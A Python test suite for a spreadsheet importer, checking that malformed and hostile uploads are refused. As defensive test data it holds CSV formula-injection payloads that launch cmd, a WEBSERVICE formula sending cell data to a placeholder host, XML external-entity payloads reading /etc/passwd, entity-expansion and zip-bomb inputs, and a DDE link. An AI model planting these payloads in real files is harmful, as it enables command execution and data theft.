"""Files that were made to do harm, or were never lists: refused with a sentence, before any great work is done."""

import io
import os
import random
import tracemalloc
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hivedesk.foundation.background import NoProgress
from hivedesk.foundation.errors import HiveDeskError, ImportProblem
from hivedesk.incoming.spreadsheet import limits, read_tables
from hivedesk.incoming.spreadsheet.layout import best_sheet
from hivedesk.incoming.spreadsheet.refusals import Refusal
from tests.unit.incoming.spreadsheet_builders import (
    FIXTURES,
    SHEET_PART,
    as_excel_writes,
    part_of,
    propose,
    propose_file,
    saved,
    sheet_xml,
    with_parts,
    workbook_with_sheet,
)

GOOD = (FIXTURES / "hive-families.xlsx").read_bytes()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
NOISE = random.Random(7).randbytes(200_000)


def ole(stream: str) -> bytes:
    return OLE + stream.encode("utf-16-le") + bytes(600)


def packed(**parts: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as container:
        for name, part in parts.items():
            container.writestr(name.replace("__", "/").replace("_xml", ".xml"), part)
    return stream.getvalue()


def protected_zip() -> bytes:
    content = bytearray(GOOD)
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1  # the flag of an encrypted entry, in the directory
    return bytes(content)


def many_sheets() -> bytes:
    workbook = openpyxl.Workbook()
    for number in range(limits.SHEETS + 1):
        workbook.create_sheet(f"s{number}")
    return saved(workbook)


def shared_strings(count: int) -> bytes:
    return as_excel_writes("<row><c><v>1</v></c></row>", [f"<t>{number}</t>" for number in range(count)])


DOCTYPE = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
EXTERNAL = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'

HOSTILE = {
    "empty": ("a.csv", b"", Refusal.EMPTY),
    "blank": ("a.csv", b"\r\n \r\n", Refusal.EMPTY),
    "too big": ("a.csv", b"Surname;Tel\n" * (limits.FILE_BYTES // 12 + 1), Refusal.TOO_BIG),
    "many lines": ("a.csv", b"Surname;Tel\n" * (limits.TEXT_LINES + 1), Refusal.TOO_BIG),
    "a line of 10 MB": ("a.csv", b"Surname;Tel\n" + b"x" * 10_000_000, Refusal.TOO_BIG),
    "a long line": ("a.csv", b"Surname;Tel\n" + b"x" * limits.LINE_CHARACTERS, Refusal.LONG_CELL),
    "a million columns": ("a.csv", b"Surname,Tel\n" + b"1," * 100_000, Refusal.TOO_MANY_CELLS),
    "NULs": ("a.csv", b"Surname;Tel\nSmith;077\x00\n", Refusal.NOT_A_TABLE),
    "noise": ("a.csv", NOISE, Refusal.NOT_A_TABLE),
    "noise as workbook": ("a.xlsx", NOISE, Refusal.NOT_A_TABLE),
    "noise in a zip": ("a.xlsx", b"PK\x03\x04" + NOISE, Refusal.CUT),
    "half UTF-16": ("a.csv", b"\xff\xfeS\x00u\x00r", Refusal.NOT_A_TABLE),
    "picture": ("a.csv", b"\x89PNG\r\n\x1a\n" + NOISE, Refusal.NOT_A_TABLE),
    "PDF": ("a.xlsx", b"%PDF-1.7\n" + NOISE, Refusal.PDF),
    "web page": ("a.xls", b"<html><table><tr><td>Surname</td></tr></table>", Refusal.WEB_PAGE),
    "command": ("a.csv", b"Surname;Tel\n=cmd|'/C calc'!A0;07700900123\n", Refusal.COMMANDS),
    "command with plus": ("a.csv", b"Surname;Tel\nSmith;+cmd|' /C calc'!A0\n", Refusal.COMMANDS),
    "command quoted": ("a.csv", b"Surname,Tel\nSmith,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n", Refusal.COMMANDS),
    "fetches": ("a.csv", b'Surname;Tel\n=WEBSERVICE("http://x/?"&A1);077\n', Refusal.COMMANDS),
    "cut in the middle": ("a.xlsx", GOOD[: len(GOOD) // 2], Refusal.CUT),
    "cut at the end": ("a.xlsx", GOOD[:-30], Refusal.CUT),
    "password": ("a.xlsx", ole("EncryptedPackage"), Refusal.PASSWORD),
    "password in zip": ("a.xlsx", protected_zip(), Refusal.PASSWORD),
    "old Excel": ("a.xls", ole("Workbook"), Refusal.OLD_EXCEL),
    "old Word": ("a.doc", ole("WordDocument"), Refusal.WORD),
    "other OLE": ("a.msg", ole("Something"), Refusal.NOT_A_TABLE),
    "macros by name": ("a.xlsm", GOOD, Refusal.MACROS),
    "macros by content": ("a.xlsx", with_parts(GOOD, {"xl/vbaProject.bin": b"x"}), Refusal.MACROS),
    "macros by type": (
        "a.xlsx",
        with_parts(
            GOOD,
            {
                "[Content_Types].xml": part_of(GOOD, "[Content_Types].xml").replace(
                    b"spreadsheetml.sheet.main", b"spreadsheetml.sheet.macroEnabled.main"
                )
            },
        ),
        Refusal.MACROS,
    ),
    "OpenDocument": (
        "a.ods",
        packed(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
        Refusal.OPEN_DOCUMENT,
    ),
    "Numbers": ("a.numbers", packed(Index__Document=b"x", **{"Index/Document.iwa": b"x"}), Refusal.NUMBERS),
    "Word": ("a.xlsx", packed(word__document_xml=b"x"), Refusal.WORD),
    "binary Excel": ("a.xlsx", packed(**{"xl/workbook.bin": b"x"}), Refusal.BINARY_EXCEL),
    "plain zip": ("a.xlsx", packed(**{"list.csv": b"Surname"}), Refusal.PACKED),
    "no workbook": ("a.xlsx", packed(**{"[Content_Types].xml": b"<Types/>"}), Refusal.CUT),
    "entities": (
        "a.xlsx",
        with_parts(GOOD, {"xl/workbook.xml": DOCTYPE + part_of(GOOD, "xl/workbook.xml")}),
        Refusal.HIDDEN_INSTRUCTIONS,
    ),
    "outside file": (
        "a.xlsx",
        with_parts(GOOD, {SHEET_PART: EXTERNAL + sheet_xml(b"<row><c><v>&a;</v></c></row>")}),
        Refusal.HIDDEN_INSTRUCTIONS,
    ),
    "deep": ("a.xlsx", workbook_with_sheet(b"<row>" * 5_000 + b"</row>" * 5_000), Refusal.HIDDEN_INSTRUCTIONS),
    "broken XML": ("a.xlsx", workbook_with_sheet(b"<row><c></row>"), Refusal.CUT),
    "a zip bomb": (
        "a.xlsx",
        workbook_with_sheet(b'<row><c t="inlineStr"><is><t>' + b"a" * 30_000_000 + b"</t></is></c></row>"),
        Refusal.BOMB,
    ),
    "a small zip bomb": (
        "a.xlsx",
        workbook_with_sheet(b'<row><c t="inlineStr"><is><t>' + b"a" * 4_000_000 + b"</t></is></c></row>"),
        Refusal.LONG_CELL,
    ),
    "a huge tag": ("a.xlsx", workbook_with_sheet(b'<row x="' + NOISE.hex().encode() * 6 + b'"/>'), Refusal.LONG_CELL),
    "a huge comment": ("a.xlsx", workbook_with_sheet(b"<!--" + NOISE.hex().encode() * 6 + b"-->"), Refusal.LONG_CELL),
    "many columns": (
        "a.xlsx",
        workbook_with_sheet(b"<row>" + b"<c><v>1</v></c>" * 20_000 + b"</row>"),
        Refusal.TOO_MANY_CELLS,
    ),
    "many rows": (
        "a.xlsx",
        workbook_with_sheet(b"<row><c><v>1</v></c></row>" * (limits.ROWS + limits.STRAYS + 1)),
        Refusal.TOO_MANY_CELLS,
    ),
    "many empty rows": (
        "a.xlsx",
        workbook_with_sheet(b'<row><c s="1"/></row>' * (limits.XML_ELEMENTS // 2)),
        Refusal.TOO_MANY_CELLS,
    ),
    "many shared texts": ("a.xlsx", shared_strings(limits.CELLS + 1), Refusal.TOO_MANY_CELLS),
    "a shared text that is not there": (
        "a.xlsx",
        workbook_with_sheet(b'<row><c t="s"><v>99</v></c></row>'),
        Refusal.CUT,
    ),
    "many sheets": ("a.xlsx", many_sheets(), Refusal.TOO_MANY_SHEETS),
    "many entries": (
        "a.xlsx",
        with_parts(GOOD, {f"x/{number}": b"" for number in range(limits.ZIP_ENTRIES)}),
        Refusal.BOMB,
    ),
    "another way of packing": (
        "a.xlsx",
        with_parts(GOOD, {}, zipfile.ZIP_LZMA),
        Refusal.HIDDEN_INSTRUCTIONS,
    ),
    "live link": (
        "a.xlsx",
        with_parts(
            GOOD, {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
        ),
        Refusal.COMMANDS,
    ),
    "a formula that starts a programme": (
        "a.xlsx",
        workbook_with_sheet(b"<row><c><f>cmd|'/C calc'!A0</f><v>1</v></c></row>"),
        Refusal.COMMANDS,
    ),
    "an empty workbook": ("a.xlsx", saved(openpyxl.Workbook()), Refusal.NO_CELLS),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_refused_with_its_own_sentence(case: str) -> None:
    name, content, reason = HOSTILE[case]
    with pytest.raises(ImportProblem) as refused:
        read_tables(name, content, NoProgress())
    assert refused.value.message == f"{reason.value[0]} Nothing was imported."
    assert refused.value.advice == reason.value[1]


@pytest.mark.parametrize("case", ["a zip bomb", "many empty rows", "many shared texts", "a line of 10 MB", "too big"])
def test_refusing_takes_little_memory(case: str) -> None:
    name, content, _ = HOSTILE[case]
    tracemalloc.start()
    try:
        with pytest.raises(ImportProblem):
            read_tables(name, content, NoProgress())
        assert tracemalloc.get_traced_memory()[1] < 60_000_000
    finally:
        tracemalloc.stop()


def test_a_declared_size_is_not_believed() -> None:
    part = part_of(GOOD, SHEET_PART).replace(b'ref="A1:W19"', b'ref="A1:XFD1048576"')
    assert b"XFD1048576" in part
    assert len(propose_file("a.xlsx", with_parts(GOOD, {SHEET_PART: part})).rows) == 18


def test_a_directory_that_lies_about_a_part_is_found_out() -> None:
    big = workbook_with_sheet(b'<row><c t="inlineStr"><is><t>' + b"a" * 6_000_000 + b"</t></is></c></row>")
    content = bytearray(big)
    name = content.rfind(SHEET_PART.encode())  # in the directory, 46 bytes into its entry; sizes at 20 and 24
    content[name - 46 + 24 : name - 46 + 28] = (1_000).to_bytes(4, "little")
    with pytest.raises(ImportProblem):
        read_tables("a.xlsx", bytes(content), NoProgress())


def test_a_stray_cell_far_away_is_left_out_and_named() -> None:
    rows = b'<row r="1"><c r="A1"><v>5</v></c></row><row r="900000"><c r="ZZ900000"><v>1</v></c></row>'
    sheet = read_tables("a.xlsx", workbook_with_sheet(rows), NoProgress()).sheets[0]
    assert [row.number for row in sheet.rows] == [1]
    assert [problem.cell for problem in sheet.problems] == ["ZZ900000"]


def test_a_file_that_is_no_list_has_no_best_sheet() -> None:
    workbook = read_tables("a.csv", b"Dear all,\nplease find attached\nthe minutes\n", NoProgress())
    with pytest.raises(ImportProblem, match="no list of families"):
        best_sheet(workbook)


def test_more_families_than_a_county_has_are_refused() -> None:
    text = "Surname;Main carer;Tel\n" + "".join(f"N{n};Jo N{n};0770{n:07}\n" for n in range(limits.FAMILIES + 1))
    sheet = read_tables("a.csv", text.encode(), NoProgress()).sheets[0]
    with pytest.raises(ImportProblem, match="whole county"):
        propose(sheet)


LONG = ("a " * 1500, "( " * 1500, "0 " * 1500, "1/" * 1500, "on hold " * 400, "-" * 3000, "a@" * 1500, ", " * 1500)


@pytest.mark.parametrize("text", LONG)
def test_long_cells_are_named_not_worked_through(text: str) -> None:
    headings = "Surname,Main carer,Tel,Date approved,LAC,Best time to call,Approved ages,Email,Post code,Notes,Who"
    line = ",".join(f'"{text}"' for _ in headings.split(","))
    proposal = propose_file("a.csv", f"{headings}\n{line}\n".encode())
    assert not any(row.take for row in proposal.rows)


@settings(max_examples=150, deadline=None)
@given(st.integers(0, len(GOOD) - 1), st.integers(1, 255))
def test_a_changed_byte_is_read_or_refused_but_never_a_crash(at: int, difference: int) -> None:
    content = bytearray(GOOD)
    content[at] ^= difference
    try:
        propose_file("a.xlsx", bytes(content))
    except HiveDeskError as refused:
        assert refused.advice


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400) | st.text(max_size=300).map(str.encode))
def test_any_bytes_are_read_or_refused(content: bytes) -> None:
    try:
        propose_file("a.csv", b"Surname;Main carer;Tel;Date approved;LAC\n" + content)
    except HiveDeskError as refused:
        assert refused.advice


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.one_of(st.none(), st.text(max_size=30), st.integers(), st.floats(), st.dates(), st.booleans()), max_size=12
    )
)
def test_any_cells_are_read(values: list[object]) -> None:
    headings = "Surname;Main carer;Tel;Date approved;LAC;BC;Type;Ages;Capacity;On hold;Post code;Notes"
    cells = ";".join(str(value).replace(";", "").replace('"', "") for value in values)
    try:
        proposal = propose_file(
            "a.csv", f"{headings}\n{cells}\nHollis;Jo Hollis;07700900123\n".encode(errors="replace")
        )
    except HiveDeskError as refused:
        assert refused.advice
    else:
        assert any(row.household.family.name == "Hollis" for row in proposal.rows)


def test_no_problem_repeats_a_name() -> None:
    text = (
        "Surname;Main carer;Tel;Date approved;LAC;Post code;Type;Capacity;On hold\n"
        "Zebedee;Zebedee;Zebedee;Zebedee;Zebedee Zebedee (31/02/2020);Zebedee;Zebedee;Zebedee;Zebedee 31.02.24\n"
    )
    problems = propose_file("a.csv", text.encode()).all_problems()
    assert len(problems) >= 5
    assert not any("zebedee" in problem.problem.lower() for problem in problems)


def test_the_file_system_is_left_alone(tmp_path: object, monkeypatch: pytest.MonkeyPatch) -> None:
    def opened(*_: object, **__: object) -> None:
        raise AssertionError("a file was opened")

    monkeypatch.setattr("builtins.open", opened)
    monkeypatch.setattr(os, "open", opened)
    assert len(propose_file("a.xlsx", GOOD).rows) == 18
